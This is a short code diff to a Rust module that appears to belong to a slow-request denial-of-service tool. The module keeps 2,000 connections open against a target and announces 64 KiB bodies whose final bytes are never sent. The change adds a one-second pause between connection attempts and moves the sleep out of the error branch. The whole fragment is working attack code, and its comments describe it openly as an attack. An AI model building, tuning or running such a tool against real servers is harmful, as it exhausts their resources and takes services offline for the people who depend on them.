@@ -2,16 +2,19 @@
 
 use std::io;
 use std::sync::Arc;
+use std::time::Duration;
 
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::runtime::Handle;
 
-use super::RECONNECT;
 use crate::target::Target;
 use crate::wire::{another_address, connect};
 
 /// How many are held at once.
 const HELD: usize = 2_000;
+
+/// How long whoever was turned away waits before the next form: this attack holds connections, it floods nobody.
+const TURNED_AWAY: Duration = Duration::from_secs(1);
 
 /// As long as a form may be; the last bytes never come.
 const ANNOUNCED: usize = 64 * 1024;
@@ -25,8 +28,8 @@ pub(super) fn begin(runtime: &Handle, target: &Arc<Target>) {
             loop {
                 if let Err(error) = hold(&target, number, &body).await {
                     target.tally.broke(error);
-                    tokio::time::sleep(RECONNECT).await;
                 }
+                tokio::time::sleep(TURNED_AWAY).await;
             }
         });
     }
